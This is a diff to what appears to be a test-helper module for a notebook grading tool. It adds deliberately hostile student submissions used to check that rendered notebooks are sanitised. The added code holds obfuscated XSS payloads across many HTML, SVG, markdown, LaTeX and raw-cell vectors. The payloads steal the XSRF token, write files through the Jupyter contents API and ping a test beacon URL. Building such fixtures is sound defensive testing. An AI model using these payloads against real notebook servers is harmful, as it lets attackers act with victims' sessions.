@@ -8,6 +8,7 @@ given kind: correct, wrong, or one of the broken ones in :data:`KINDS`.
 
 from __future__ import annotations
 
+import base64
 import shutil
 from pathlib import Path
 
@@ -234,4 +235,151 @@ def filled_release(course: Path, assignment: str, answers: dict[str, str] | None
         grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
         if grade_id in solved and cell.metadata["nbgrader"].get("solution"):
             cell.source = solved[grade_id]
+    return nb
+
+
+# --- a submission whose outputs and markdown try to run a script wherever they are rendered ---------------
+def as_js_expression(js: str) -> str:
+    """``js`` as one expression without quotes or spaces: it fits in any attribute, URL or script."""
+    return "eval(String.fromCharCode(" + ",".join(str(ord(ch)) for ch in js) + "))"
+
+
+def payload(vector: str, beacon: str = "") -> str:
+    """The script a hostile submission tries to run: it records ``vector`` in ``window.PWNED``, writes
+    ``pwned-<vector>.txt`` through the Jupyter contents API with the viewer's session, calls ``beacon``
+    (a URL a test listens on) and opens a dialog. Whoever renders the notebook must see none of it."""
+    body = ("{method:'PUT',headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
+            "body:JSON.stringify({type:'file',format:'text',content:'written by a submission'})}")
+    return (f"window.PWNED=(window.PWNED||[]).concat(['{vector}']);var m=document.cookie.match(/_xsrf=([^;]+)/);"
+            f"fetch('/api/contents/pwned-{vector}.txt',{body}).catch(function(){{}});"
+            + (f"fetch('{beacon}{vector}',{{mode:'no-cors'}}).catch(function(){{}});" if beacon else "")
+            + f"alert('{vector}');")
+
+
+#: Every way tried, where a script runs as the page loads (the rest need a click on "click me").
+AUTO_VECTORS = ("html-script", "html-onerror", "html-iframe", "html-ontoggle", "svg-onload", "svg-script",
+                "markdown-output", "javascript-output", "image-width", "md-onerror", "md-script", "md-iframe",
+                "md-ontoggle", "md-mermaid", "raw-onerror")
+CLICK_VECTORS = ("html-link", "md-link", "latex-href")
+
+
+def hostile_output_code(beacon: str = "") -> str:
+    """A code cell whose outputs (made by the student's kernel) try every way of running a script or
+    loading something where they are rendered: HTML, markdown, JavaScript and LaTeX outputs, image metadata."""
+    run = {v: as_js_expression(payload(v, beacon)) for v in AUTO_VECTORS + CLICK_VECTORS}
+    html = [f"<script>{run['html-script']}</script>", f"<img src=x onerror={run['html-onerror']}>",
+            f"<iframe src=javascript:{run['html-iframe']}></iframe>",
+            f"<details open ontoggle={run['html-ontoggle']}><summary>s</summary></details>",
+            f"<a href=javascript:{run['html-link']}>click me</a>", _remote_html(beacon)]
+    image = {"image/png": base64.b64encode(TINY_PNG).decode(), "text/plain": "an image"}
+    image_meta = {"image/png": {"width": f"1 onload={run['image-width']}"}}
+    latex = {"text/latex": "$\\href{javascript:" + run["latex-href"] + "}{click me}$", "text/plain": "latex"}
+    return "\n".join([
+        "from IPython.display import HTML, Javascript, Markdown, display",
+        *(f"display(HTML({h!r}))" for h in html),
+        f"display(Markdown({'<img src=x onerror=' + run['markdown-output'] + '>'!r}))",
+        f"display(Javascript({payload('javascript-output', beacon)!r}))",
+        f"display({image!r}, raw=True, metadata={image_meta!r})",
+        f"display({latex!r}, raw=True)",
+    ]) + "\n"
+
+
+def hostile_svg_code(beacon: str = "") -> str:
+    """A code cell whose SVG output has a script and an ``onload`` handler."""
+    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" '
+           f'onload="{as_js_expression(payload("svg-onload", beacon))}">'
+           f'<script>{as_js_expression(payload("svg-script", beacon))}</script>'
+           '<circle cx="20" cy="20" r="15" fill="teal"/></svg>')
+    return f"from IPython.display import SVG, display\ndisplay(SVG({svg!r}))\n"
+
+
+def _remote_html(beacon: str) -> str:
+    return (f'<img src="{beacon}remote-image"><link rel="stylesheet" href="{beacon}remote-css">'
+            f'<div style="background-image:url({beacon}remote-style)">styled</div>'
+            f'<form action="{beacon}form"><input type="submit" value="send"></form>')
+
+
+def hostile_markdown(beacon: str = "") -> str:
+    """A markdown cell that tries the same with raw HTML, links, a remote image and a mermaid block."""
+    run = {v: as_js_expression(payload(v, beacon)) for v in AUTO_VECTORS + CLICK_VECTORS}
+    return (f"A hostile cell <img src=x onerror={run['md-onerror']}> <script>{run['md-script']}</script>\n\n"
+            f"[click me](javascript:{run['md-link']}) ![remote]({beacon}md-remote-image)\n\n"
+            f"<iframe src=\"javascript:{run['md-iframe']}\"></iframe>\n\n"
+            f"<details open ontoggle={run['md-ontoggle']}><summary>more</summary>text</details>\n\n"
+            f"```mermaid\n</pre><img src=x onerror={run['md-mermaid']}>\n```\n")
+
+
+def hostile_raw_cell() -> nbformat.NotebookNode:
+    """A raw cell that nbconvert would paste into an HTML page as it is."""
+    cell = nbformat.v4.new_raw_cell(f"<img src=x onerror={as_js_expression(payload('raw-onerror'))}>")
+    cell.metadata["raw_mimetype"] = "text/html"
+    return cell
+
+
+#: A 2x2 PNG (red, green / blue, white), for outputs that must still render after sanitising.
+TINY_PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000002000000020802000000fdd49a73000000164944415478da63f8cfc0c0d0c0c0c8c0"
+    "f0ffff7f06001a7f047ed0b295e00000000049454e44ae426082"
+)
+#: What pandas' ``DataFrame._repr_html_`` writes for a 2 x 2 frame (pandas 2), as a student's output.
+PANDAS_TABLE = """<div>
+<style scoped>
+    .dataframe tbody tr th:only-of-type {
+        vertical-align: middle;
+    }
+
+    .dataframe tbody tr th {
+        vertical-align: top;
+    }
+
+    .dataframe thead th {
+        text-align: right;
+    }
+</style>
+<table border="1" class="dataframe">
+  <thead>
+    <tr style="text-align: right;">
+      <th></th>
+      <th>d_k</th>
+      <th>std of scores</th>
+    </tr>
+  </thead>
+  <tbody>
+    <tr>
+      <th>0</th>
+      <td>16</td>
+      <td>4.02</td>
+    </tr>
+    <tr>
+      <th>1</th>
+      <td>64</td>
+      <td>7.97</td>
+    </tr>
+  </tbody>
+</table>
+</div>"""
+#: Ordinary outputs that must survive sanitising: a pandas table, a matplotlib plot, an SVG figure.
+ORDINARY_OUTPUTS_CODE = (
+    "from IPython.display import HTML, SVG, display\n"
+    f"display(HTML({PANDAS_TABLE!r}))\n"
+    "import matplotlib\nmatplotlib.use('module://matplotlib_inline.backend_inline')\n"
+    "import matplotlib.pyplot as plt\n"
+    "plt.figure(figsize=(2, 1.5))\nplt.plot([0, 1, 4, 9])\nplt.show()\n"
+    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"60\" height=\"30\">"
+    "<rect width=\"60\" height=\"30\" fill=\"teal\"/></svg>'))\n"
+)
+#: An ordinary markdown cell with formulas and a link.
+ORDINARY_MARKDOWN = ("Scores grow like $\\sqrt{d_k}$, so we divide by it:\n\n"
+                     "$$\\mathrm{softmax}(x)_i = \\frac{e^{x_i}}{\\sum_j e^{x_j}}$$\n\n"
+                     "See [the paper](https://arxiv.org/abs/1706.03762).\n")
+
+
+def with_hostile_renderables(nb: nbformat.NotebookNode, beacon: str = "") -> nbformat.NotebookNode:
+    """``nb`` with the hostile cells and the ordinary ones appended (and widget state that would load a
+    script from a CDN in its metadata)."""
+    nb.cells += [new_markdown_cell(ORDINARY_MARKDOWN), new_code_cell(ORDINARY_OUTPUTS_CODE),
+                 new_code_cell(hostile_output_code(beacon)), new_code_cell(hostile_svg_code(beacon)),
+                 new_markdown_cell(hostile_markdown(beacon)), hostile_raw_cell()]
+    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2,
+                                                                            "version_minor": 0}}
     return nb
